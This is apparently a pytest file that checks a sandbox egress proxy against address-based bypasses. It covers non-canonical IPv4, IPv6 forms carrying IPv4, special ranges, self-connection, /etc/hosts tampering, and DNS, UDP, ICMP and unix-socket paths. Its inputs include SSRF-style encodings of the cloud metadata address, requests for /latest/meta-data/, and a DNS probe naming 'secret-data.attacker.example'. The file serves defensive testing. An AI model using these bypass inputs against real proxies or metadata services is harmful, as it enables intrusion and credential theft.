"""Egress proxy, addresses (shared/security/egress-attacks.md cases 9-18 and 44-46): IP literals
against domain allowlists, non-canonical IPv4, IPv6 forms with embedded IPv4, special ranges,
self-connection, allowed names resolving to refused addresses, the sandbox's /etc/hosts, DNS,
and the paths that are not the proxy (UDP, ICMP, raw TCP, IPv6, host loopback and unix sockets).

Targets that are off this machine if the proxy let them through (169.254.169.254, NAT64, 6to4,
Teredo, RFC 1918, ...) are only ever sent to a proxy that runs in a network namespace of its own
with nothing but loopback (egresskit.IsolatedLab): a wrong "allow" there can only fail to
connect. Everything else targets loopback addresses of this machine."""

import errno
import json
import os
import socket
import subprocess
import threading

import pytest

import pdk
from egresskit import *  # noqa: F401,F403 (fixtures and helpers)


# ------------------------------------------------------------------ 9. IP literal vs names

def test_ip_literal_denied_unless_an_entry_names_it(lab):
    p = lab.echo.port
    named = lab.env(allowlist=[f"allowed.test:{p}"])
    n = lab.echo.count()
    r = named.raw(f"CONNECT 127.0.0.2:{p} HTTP/1.1\r\n\r\nping")
    assert "IP literals pass only when" in deny_body_ok(r, "127.0.0.2", p, named.id)
    lab.echo.wait_closed()
    assert lab.echo.count() == n
    # Naming the literal allows it (the address is in --egress-allow-cidr).
    lit = lab.env(allowlist=[f"127.0.0.2:{p}"])
    ok = lit.raw_many([tunnel("127.0.0.2", p, b"literal")])[0]
    assert ok.status == 200 and ok.raw.endswith(b"literal"), ok
    # ... and only that literal, in that spelling: the name it resolves from is not allowed.
    name = lit.raw(f"CONNECT allowed.test:{p} HTTP/1.1\r\n\r\n")
    deny_body_ok(name, "allowed.test", p, lit.id)


# ------------------------------------------------------------------ 10. non-canonical IPv4

NON_CANONICAL = ["2130706433", "0x7f.1", "0x7f.0.0.1", "0177.0.0.1", "127.1", "127.0.1",
                 "0x7f000001", "017700000001", "127.0.0.01", "169.254.43518", "0xa9.0xfe.0xa9.0xfe",
                 "2852039166", "127.0.0.1.1", "0", "0x0", "1.2.3.4.5"]


@pytest.mark.parametrize("lit", NON_CANONICAL)
def test_non_canonical_ipv4_refused_not_guessed(lab, lit):
    p = lab.echo.port
    # Only "*" and exact literals could match: a proxy that took these for names would answer
    # 403 by policy (and never resolve them); one that normalised them would dial 127.0.0.1
    # or 169.254.169.254. Refusing them as malformed (400) is the documented behaviour.
    e = lab.env(allowlist=[f"allowed.test:{p}", "127.0.0.1", "169.254.169.254"])
    n = lab.echo.count()
    c, g = e.raw_many([conn_spec(f"CONNECT {lit}:80 HTTP/1.1\r\n\r\n"),
                       conn_spec(f"GET http://{lit}/latest/meta-data/ HTTP/1.1\r\n\r\n")])
    refused(c, 400)
    refused(g, 400)
    lab.echo.wait_closed()
    assert lab.echo.count() == n


@pytest.mark.parametrize("name", ["a1.test", "1.cafe.test", "face.b00c.test", "0x7f.test",
                                  "127.0.0.1.test", "deadbeef.test"])
def test_numeric_looking_names_are_names(lab, name):
    """Only all-numeric forms are refused as lax IPv4: these are host names, parsed and then
    denied by policy (403, named), never 400 and never dialled."""
    e = lab.env(allowlist=[f"allowed.test:{lab.echo.port}"])
    r = e.raw(f"CONNECT {name}:443 HTTP/1.1\r\n\r\n")
    assert "not on the environment's allowlist" in deny_body_ok(r, name, 443, e.id)


# ------------------------------------------------------------------ 11/12. special ranges

# (literal as sent, words one of which the reason must contain)
SPECIAL = [
    ("0.0.0.0", "unspecified"), ("0.1.2.3", "unspecified"), ("10.0.0.1", "private"),
    ("100.64.0.1", "cgnat"), ("100.100.100.100", "cgnat"), ("127.0.0.1", "loopback"),
    ("127.255.255.254", "loopback"), ("169.254.169.254", "link-local"),
    ("169.254.169.254.", "link-local"), ("172.16.0.1", "private"), ("172.31.255.255", "private"),
    ("192.168.1.1", "private"), ("192.0.0.170", "ietf"), ("192.0.2.1", "documentation"),
    ("198.18.0.1", "benchmarking"), ("198.51.100.7", "documentation"),
    ("203.0.113.9", "documentation"), ("224.0.0.1", "multicast"),
    ("239.255.255.250", "multicast"), ("240.0.0.1", "reserved"),
    ("255.255.255.255", "broadcast"),
    ("[::]", "unspecified"), ("[::1]", "loopback"), ("[0:0:0:0:0:0:0:1]", "loopback"),
    ("[::ffff:127.0.0.1]", "ipv4 inside ipv6"), ("[::ffff:7f00:1]", "ipv4 inside ipv6"),
    ("[::ffff:169.254.169.254]", "ipv4 inside ipv6"), ("[::127.0.0.1]", "ipv4 inside ipv6"),
    ("[::a9fe:a9fe]", "ipv4 inside ipv6"), ("[64:ff9b::a9fe:a9fe]", "nat64"),
    ("[64:ff9b::10.0.0.1]", "nat64"), ("[64:ff9b:1::a9fe:a9fe]", "nat64"),
    ("[64:ff9b:1:abcd::1]", "nat64"),
    ("[::ffff:0:a9fe:a9fe]", "ipv4 inside ipv6"), ("[::ffff:0:127.0.0.1]", "ipv4 inside ipv6"),
    ("[2001:2::1]", "benchmarking"), ("[2001:10::1]", "orchid"), ("[2001:2f::1]", "orchid"),
    ("[3fff::1]", "documentation"), ("[5f00::1]", "segment routing"),
    ("[2002:a9fe:a9fe::]", "6to4"), ("[2002:7f00:1::1]", "6to4"),
    ("[2001:0:4136:e378:8000:63bf:3fff:fdd2]", "teredo"), ("[2001::1]", "teredo"),
    ("[fe80::1]", "link-local"), ("[febf::1]", "link-local"), ("[fec0::1]", "site-local"),
    ("[fc00::1]", "unique local"), ("[fd00::2]", "unique local"), ("[ff02::1]", "multicast"),
    ("[2001:db8::1]", "documentation"), ("[100::1]", "discard"),
]


def canonical(lit):
    """The host the proxy names in its answers: IPv6 as inet_ntop writes it, one dot dropped."""
    if lit.startswith("["):
        return "[" + socket.inet_ntop(socket.AF_INET6,
                                      socket.inet_pton(socket.AF_INET6, lit[1:-1])) + "]"
    return lit[:-1] if lit.endswith(".") else lit


@pytest.fixture(scope="module")
def iso(tmp_path_factory):
    """A proxy in a network namespace with only loopback, and one open environment."""
    pd = pdk.Paddock(tmp_path_factory.mktemp("iso") / "data")
    try:
        lb = IsolatedLab(pd)
        try:
            lb.e = lb.env()
            yield lb
        finally:
            lb.close()
    finally:
        pd.teardown()


def test_special_ranges_denied_in_an_open_environment(iso):
    e = iso.e
    before = len(iso.records(e.id))
    specs = []
    for lit, _ in SPECIAL:
        specs.append(conn_spec(f"CONNECT {lit}:443 HTTP/1.1\r\n\r\n"))
        specs.append(conn_spec(f"GET http://{lit}/latest/meta-data/ HTTP/1.1\r\n\r\n"))
    replies = e.raw_many(specs, timeout=120)
    problems = []
    for i, (lit, word) in enumerate(SPECIAL):
        host = canonical(lit)
        for r, port in ((replies[2 * i], 443), (replies[2 * i + 1], 80)):
            try:
                reason = deny_body_ok(r, host, port, e.id)
                assert word in reason.lower(), f"reason {reason!r} should say {word!r}"
            except AssertionError as x:
                problems.append(f"{lit}:{port}: {x}")
    assert not problems, "\n".join(problems)
    recs = pdk.wait_until(lambda: len(iso.records(e.id)) >= before + len(specs)
                          and iso.records(e.id), 10) or iso.records(e.id)
    new = recs[before:]
    assert len(new) == len(specs), new
    assert all(r["decision"] == "deny" and r["bytes_up"] == 0 and r["bytes_down"] == 0
               for r in new), new


def test_isolated_proxy_dials_what_it_allows(iso):
    """The control for the test above: an ordinary public literal is allowed by the open
    policy and dialled; in the isolated namespace that fails (502), so a 403 above is the
    classification, not unreachability."""
    r = iso.e.raw("CONNECT 93.184.216.34:443 HTTP/1.1\r\n\r\n")
    assert r.status == 502, r
    assert r.eof, r
    # (the CLI reads the database as it is: the record may be a moment behind the reply)
    assert pdk.wait_until(lambda: iso.records(iso.e.id)[-1]["decision"] == "allow", 5)


@pytest.mark.parametrize("addr,lit,cls", [("10.99.0.1/32", "10.99.0.1", "private"),
                                          ("fd00::99/128", "[fd00::99]", "unique local")])
def test_an_address_this_host_gains_is_refused_at_once(iso, addr, lit, cls):
    """The host's own addresses are kept current by a netlink watch: one added to the proxy's
    network namespace after the proxy started is refused as this host's own from then on (not
    after the 10 s re-read that stands in when there is no watch), and once removed it is back
    to its class. The namespace is the one the isolated lab made with unshare, so the host's
    own network is never touched, and nothing is ever dialled: both answers are refusals."""
    ns = f"--net=/proc/{iso.server.proc.pid}/ns/net"

    def ip(*a):
        r = subprocess.run(["nsenter", ns, "ip", *a], capture_output=True, text=True)
        assert r.returncode == 0, r

    def reason():
        r = iso.e.raw(f"CONNECT {lit}:443 HTTP/1.1\r\n\r\n")
        return deny_body_ok(r, lit, 443, iso.e.id).lower()

    assert cls in reason()
    ip("addr", "add", addr, "dev", "lo")
    try:
        assert pdk.wait_until(lambda: "this host's own" in reason(), 5, 0.05), reason()
    finally:
        ip("addr", "del", addr, "dev", "lo")
    assert pdk.wait_until(lambda: cls in reason(), 5, 0.05), reason()


@pytest.mark.parametrize("own_pid_ns", [False, True], ids=["host-process", "host-network"])
def test_no_listener_in_the_proxys_own_namespace(iso, own_pid_ns):
    """A stored init that is not a sandbox (after a reboot, a pid and start time can match
    another process) is never given a listener: the proxy would offer the environment's policy,
    credentials included, to every process in its own network namespace. A process of the
    isolated proxy's namespaces written into an environment's row is not taken for its init at
    all (no pid namespace of its own): the environment is stopped. One in a pid namespace of
    its own but the proxy's network (a container on the host's network) is refused by the
    listener itself, which says why. Either way nothing listens on 127.0.0.1:3128 there."""
    import sqlite3
    ns = f"--net=/proc/{iso.server.proc.pid}/ns/net"
    e = iso.env()
    pre = ["unshare", "--pid", "--fork", "--kill-child"] if own_pid_ns else []
    fake = subprocess.Popen(["nsenter", ns, *pre, "sleep", "120"])
    try:
        pid = fake.pid
        if own_pid_ns:   # the sleep is unshare's child, pid 1 of its namespace
            kids = lambda: open(f"/proc/{fake.pid}/task/{fake.pid}/children").read().split()  # noqa
            assert pdk.wait_until(kids, 5)
            pid = int(kids()[0])
        start = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[19])
        db = sqlite3.connect(iso.pd.data / "paddock.db", timeout=10)
        with db:
            db.execute("UPDATE environments SET init_pid = ?, init_start = ? WHERE id = ?",
                       (pid, start, e.id))
        db.close()

        def said():
            if own_pid_ns:
                return any(f"process {pid} shares this host's network namespace" in l
                           for l in iso.server.lines)
            r = iso.pd.run("env", "ls", "--json")
            return r.rc == 0 and any(x["id"] == e.id and x["state"] == "stopped"
                                     for x in r.json())

        def listens():
            return subprocess.run(
                ["nsenter", ns, "python3", "-c",
                 "import socket; socket.create_connection(('127.0.0.1', 3128), 2)"],
                capture_output=True).returncode == 0
        pdk.wait_until(lambda: said() or listens(), 10)
        assert not listens(), "a listener in the proxy's own namespace"
        assert said(), (iso.server.lines[-10:], iso.pd.run("env", "ls", "--json").text)
    finally:
        fake.kill()
        fake.wait()


def test_ipv6_zone_ids_and_bad_literals_are_400(iso):
    bad = ["[fe80::1%25eth0]", "[fe80::1%eth0]", "[::1", "::1", "[::1]]", "[127.0.0.1]",
           "[::ffff:127.0.0.1%1]", "[1:2:3:4:5:6:7:8:9]", "[]", "[::g]"]
    replies = iso.e.raw_many([conn_spec(f"CONNECT {b}:443 HTTP/1.1\r\n\r\n") for b in bad])
    for b, r in zip(bad, replies):
        assert r.status == 400, (b, r)
        assert r.eof, (b, r)


# ------------------------------------------------------------------ 13. self-connection

@pytest.fixture(scope="module")
def selflab(tmp_path_factory):
    """A server whose operator ranges include all of 127/8 (and 0.0.0.0 and the mapped form of
    127/8), with self.test resolving to 127.0.0.1, where the API listens."""
    pd = pdk.Paddock(tmp_path_factory.mktemp("self") / "data")
    up = Upstream(host="127.0.0.1")
    try:
        lb = Lab(pd, resolve={"self.test": "127.0.0.1"},
                 allow=["127.0.0.0/8", "0.0.0.0/32", "::ffff:127.0.0.0/104"])
        try:
            lb.up = up
            p = lb.server.port
            lb.e = lb.env(allowlist=[f"self.test:{p}", f"self.test:{up.port}", f"127.0.0.1:{p}",
                                     f"127.0.0.2:{p}", f"0.0.0.0:{p}", f"[::ffff:127.0.0.1]:{p}",
                                     f"[::1]:{p}"])
            yield lb
        finally:
            lb.close()
    finally:
        up.close()
        pd.teardown()


HEALTHZ = "GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"


@pytest.mark.parametrize("host", ["self.test", "127.0.0.1", "127.0.0.2", "[::1]"])
def test_self_connection_denied_even_when_ranges_allow_it(selflab, host):
    p = selflab.server.port
    r = selflab.e.raw(f"CONNECT {host}:{p} HTTP/1.1\r\n\r\n{HEALTHZ}")
    assert "paddock's own" in deny_body_ok(r, host, p, selflab.e.id), r
    assert b'"status"' not in r.raw, r


def test_self_rule_is_the_port_not_the_range(selflab):
    """Control: the same name on another port of 127.0.0.1 is dialled (127/8 is allowed)."""
    n = selflab.up.count()
    r = selflab.e.raw(f"CONNECT self.test:{selflab.up.port} HTTP/1.1\r\n\r\n"
                      "GET /ctl HTTP/1.1\r\n\r\n")
    assert r.status == 200 and b"GET /ctl HTTP/1.1" in r.raw, r
    assert selflab.up.count() == n + 1


# 0.0.0.0 (connecting to it reaches the local host) and ::ffff:127.0.0.1 (an IPv6 socket
# reaching the IPv4 listener) are both paddock's own API, but is_self() compares IPv4 addresses
# for equality only: with operator ranges that include them, the sandbox reaches the API.
@pytest.mark.parametrize("host", ["0.0.0.0", "[::ffff:127.0.0.1]"])
def test_self_connection_other_spellings_denied(selflab, host):
    p = selflab.server.port
    r = selflab.e.raw(f"CONNECT {host}:{p} HTTP/1.1\r\n\r\n{HEALTHZ}")
    assert b'{"status"' not in r.raw, f"the sandbox reached paddock's API: {r!r}"
    assert r.status == 403, r


def test_sandbox_proxy_listener_is_not_reachable_through_the_proxy(selflab):
    """Case 33: the proxy listens on 127.0.0.1:3128 inside the sandbox only; asking the proxy
    for 127.0.0.1:3128 (allowed range) dials the host's loopback, where there is no proxy."""
    e = selflab.lab_env = selflab.env(allowlist=["127.0.0.1:3128", "self.test:3128"])
    for host in ("127.0.0.1", "self.test"):
        r = e.raw(f"CONNECT {host}:3128 HTTP/1.1\r\n\r\nCONNECT allowed.test:80 HTTP/1.1\r\n\r\n")
        assert r.status in (502, 403), r
        assert b"Connection established" not in r.raw, r


def host_address():
    """A non-loopback IPv4 address of this host (its own network namespace), or None."""
    import fcntl
    import struct
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        for _, name in socket.if_nameindex():
            try:  # SIOCGIFADDR
                r = fcntl.ioctl(s.fileno(), 0x8915, struct.pack("256s", name.encode()[:15]))
            except OSError:
                continue
            addr = socket.inet_ntoa(r[20:24])
            if not addr.startswith("127."):
                return addr
    finally:
        s.close()
    return None


def test_this_hosts_own_address_is_opened_only_by_name(tmp_path_factory):
    """The host's own addresses reach its services from the inside (a database on 0.0.0.0, the
    container runtime's API): an operator range they happen to be in does not open them, only
    a range that is that one address does."""
    import ipaddress
    addr = host_address()
    if addr is None:
        pytest.skip("this host has no IPv4 address but loopback")
    wide = str(ipaddress.ip_network(f"{addr}/30", strict=False))
    up = Upstream(host=addr)
    pds = []
    try:
        for allow, ok in (([wide], False), ([f"{addr}/32"], True)):
            pds.append(pdk.Paddock(tmp_path_factory.mktemp("hostaddr") / "data"))
            lb = Lab(pds[-1], resolve={"host.test": addr}, allow=allow)
            try:
                e = lb.env(allowlist=[f"host.test:{up.port}", f"{addr}:{up.port}"])
                n = up.count()
                for host in ("host.test", addr):
                    r = e.raw(f"CONNECT {host}:{up.port} HTTP/1.1\r\n\r\n"
                              "GET /h HTTP/1.1\r\n\r\n")
                    if ok:
                        assert r.status == 200 and b"GET /h HTTP/1.1" in r.raw, (allow, r)
                    else:
                        assert "this host's own" in deny_body_ok(r, host, up.port, e.id), r
                assert up.count() == n + (2 if ok else 0), allow
            finally:
                lb.close()
    finally:
        up.close()
        for pd in pds:
            pd.teardown()


# ------------------------------------------------------------------ 15. allowed name, bad IP

def test_allowed_name_resolving_to_refused_address_is_denied(lab):
    p = lab.up3.port
    e = lab.env(allowlist=[f"private.test:{p}"])
    n = lab.up3.count()
    c, g = e.raw_many([conn_spec(f"CONNECT private.test:{p} HTTP/1.1\r\n\r\n"),
                       conn_spec(get_abs(f"http://private.test:{p}/x"))])
    for r in (c, g):
        reason = deny_body_ok(r, "private.test", p, e.id)
        assert "loopback" in reason and "refused" in reason, reason
    lab.up3.wait_closed()
    assert lab.up3.count() == n, "the proxy dialled an address outside --egress-allow-cidr"


# ------------------------------------------------------------------ 17. sandbox /etc/hosts

def test_sandbox_etc_hosts_is_ignored(lab):
    p = lab.up.port
    e = lab.env(allowlist=[f"allowed.test:{p}", f"private.test:{lab.up3.port}"])
    e.sh_ok(f"echo '{REFUSED_IP} allowed.test' >> /etc/hosts; echo '{UP_IP} private.test' "
            ">> /etc/hosts; getent hosts allowed.test")
    n, n3 = lab.up.count(), lab.up3.count()
    r = e.sh(f"curl -sS -m 10 http://allowed.test:{p}/hosts; echo; "
             f"curl -sS -m 10 -o /dev/null -w '%{{http_code}}' http://private.test:{lab.up3.port}/")
    assert r.rc == 0, r
    first, second = r.text.split("\n", 1)
    assert json.loads(first)["line"] == "GET /hosts HTTP/1.1", r
    assert second.strip() == "403", r   # still classified by the proxy's own resolution
    lab.up.wait_count(n + 1)
    assert lab.up.count() == n + 1 and lab.up3.count() == n3


# ------------------------------------------------------------------ 18. DNS

DNS_PROBE = r'''
import json, socket
out = {}
try:
    socket.getaddrinfo("secret-data.attacker.example", 443)
    out["gai"] = "resolved"
except socket.gaierror as e:
    out["gai"] = e.errno
for name, fam, typ, addr in [("udp4", socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53)),
                             ("tcp4", socket.AF_INET, socket.SOCK_STREAM, ("8.8.8.8", 53)),
                             ("udp6", socket.AF_INET6, socket.SOCK_DGRAM, ("2001:4860:4860::8888", 53)),
                             ("quic", socket.AF_INET, socket.SOCK_DGRAM, ("1.1.1.1", 443))]:
    s = socket.socket(fam, typ)
    s.settimeout(2)
    try:
        if typ == socket.SOCK_DGRAM:
            s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", addr)
        else:
            s.connect(addr)
        out[name] = 0
    except OSError as e:
        out[name] = e.errno
    s.close()
print(json.dumps(out))
'''


def test_sandbox_has_no_dns_path(lab):
    e = lab.env(allowlist=[f"allowed.test:{lab.up.port}"])
    r = e.py(DNS_PROBE)
    assert r.rc == 0, r
    out = json.loads(r.text.strip().splitlines()[-1])
    assert out["gai"] in (socket.EAI_AGAIN, socket.EAI_NONAME, socket.EAI_FAIL), out
    # No route at all: the kernel refuses before a packet exists.
    for k in ("udp4", "tcp4", "udp6", "quic"):
        assert out[k] == errno.ENETUNREACH, out
    assert lab.records(e.id) == [], "a DNS attempt must not become a proxy decision"


# ------------------------------------------------------------------ 44-46. other paths

class HostCatchAll:
    """Listeners on this machine that a sandbox must not reach without the proxy: TCP on
    0.0.0.0 and ::, UDP on 127.0.0.2 and ::1, a unix socket in /run and an abstract one."""

    def __init__(self, tag):
        self.hits = []
        self.tcp4 = socket.socket()
        self.tcp4.bind(("0.0.0.0", 0))
        self.port = self.tcp4.getsockname()[1]
        self.tcp6 = socket.socket(socket.AF_INET6)
        self.tcp6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        self.tcp6.bind(("::", self.port))
        self.udp4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp4.bind(("127.0.0.2", self.port))
        self.udp6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        self.udp6.bind(("::1", self.port))
        self.unix_path = f"/run/paddock-egress-test-{tag}.sock"
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(self.unix_path)
        self.abstract_name = f"\0paddock-egress-test-{tag}"
        self.abstract = socket.socket(socket.AF_UNIX)
        self.abstract.bind(self.abstract_name)
        self.socks = [self.tcp4, self.tcp6, self.udp4, self.udp6, self.unix, self.abstract]
        self.acceptors = []
        for s in (self.tcp4, self.tcp6, self.unix, self.abstract):
            s.listen(16)
            self.acceptors.append(Acceptor(s, lambda c, s=s: self._hit(s, c)))
        self.readers = [threading.Thread(target=self._recv, args=(s,), daemon=True)
                        for s in (self.udp4, self.udp6)]
        for t in self.readers:
            t.start()

    def _hit(self, s, c):
        try:
            peer = c.getpeername()
        except OSError:
            peer = None
        self.hits.append(("accept", s.family, peer))
        c.close()

    def _recv(self, s):
        while True:
            try:
                d, a = s.recvfrom(65536)
            except OSError:
                return
            if a is None:  # shut down by close()
                return
            self.hits.append(("udp", s.family, a, d))

    def close(self):
        # As Acceptor.stop() does for the listeners: wake the readers and wait for them, so
        # no thread is left reading a closed socket's fd number that a later socket gets.
        for acceptor in self.acceptors:
            acceptor.stop()
        for s in (self.udp4, self.udp6):
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass  # ENOTCONN: an unconnected datagram socket still wakes its reader
        for t in self.readers:
            t.join(10)
        for s in self.socks:
            s.close()
        try:
            os.unlink(self.unix_path)
        except OSError:
            pass


OTHER_PATHS = r'''
import json, socket, sys
port = int(sys.argv[1]); unix_path = sys.argv[2]; abstract = "\0" + sys.argv[3]
out = {}
def tcp(name, fam, addr):
    s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(3)
    try:
        s.connect(addr); out[name] = 0
    except OSError as e:
        out[name] = e.errno
    s.close()
tcp("tcp_127.0.0.1", socket.AF_INET, ("127.0.0.1", port))
tcp("tcp_127.0.0.2", socket.AF_INET, ("127.0.0.2", port))
tcp("tcp_::1", socket.AF_INET6, ("::1", port))
tcp("tcp_192.0.2.2", socket.AF_INET, ("192.0.2.2", port))
tcp("tcp_fd00::2", socket.AF_INET6, ("fd00::2", port))
for name, fam, addr in [("udp_127.0.0.2", socket.AF_INET, ("127.0.0.2", port)),
                        ("udp_::1", socket.AF_INET6, ("::1", port)),
                        ("udp_192.0.2.2", socket.AF_INET, ("192.0.2.2", port))]:
    s = socket.socket(fam, socket.SOCK_DGRAM)
    try:
        s.sendto(b"leak", addr); out[name] = 0
    except OSError as e:
        out[name] = e.errno
    s.close()
for name, kind in [("icmp_dgram", socket.SOCK_DGRAM), ("raw_tcp", socket.SOCK_RAW)]:
    try:
        proto = socket.IPPROTO_ICMP if kind == socket.SOCK_DGRAM else socket.IPPROTO_TCP
        s = socket.socket(socket.AF_INET, kind, proto)
        s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("192.0.2.2", 0)); out[name] = 0
        s.close()
    except OSError as e:
        out[name] = e.errno
for name, addr in [("unix", unix_path), ("abstract", abstract)]:
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(addr); out[name] = 0
    except OSError as e:
        out[name] = e.errno
    s.close()
print(json.dumps(out))
'''


@pytest.mark.parametrize("network", ["open", "disabled"])
def test_no_path_but_the_proxy(lab, network, tmp_path):
    """Cases 44-46: UDP, ICMP, raw IP, IPv6 and the host's loopback services and unix sockets
    are unreachable from a sandbox, with or without a proxy listener in it."""
    hosts = HostCatchAll(f"{os.getpid()}-{network}")
    try:
        e = lab.env(allowlist=[f"allowed.test:{lab.up.port}"]) if network == "open" \
            else lab.env(network="disabled")
        r = e.exec("python3", "-c", OTHER_PATHS, str(hosts.port), hosts.unix_path,
                   hosts.abstract_name[1:])
        assert r.rc == 0, r
        out = json.loads(r.text.strip().splitlines()[-1])
        # The sandbox's own loopback: nothing listens there (the proxy is on 3128 only).
        for k in ("tcp_127.0.0.1", "tcp_127.0.0.2", "tcp_::1"):
            assert out[k] == errno.ECONNREFUSED, out
        # The host's own addresses have no route from the sandbox.
        for k in ("tcp_192.0.2.2", "tcp_fd00::2", "udp_192.0.2.2"):
            assert out[k] == errno.ENETUNREACH, out
        # Datagrams to loopback go to the sandbox's loopback; raw/ICMP have no route or no
        # permission.
        for k in ("icmp_dgram", "raw_tcp"):
            assert out[k] in (errno.ENETUNREACH, errno.EPERM, errno.EACCES), out
        # The host's unix socket file is not in the sandbox's file system, and abstract unix
        # sockets belong to the network namespace.
        assert out["unix"] == errno.ENOENT, out
        assert out["abstract"] == errno.ECONNREFUSED, out
        pdk.wait_until(lambda: hosts.hits, 1)
        assert hosts.hits == [], f"reached the host: {hosts.hits}"
        assert lab.records(e.id) == []
    finally:
        hosts.close()
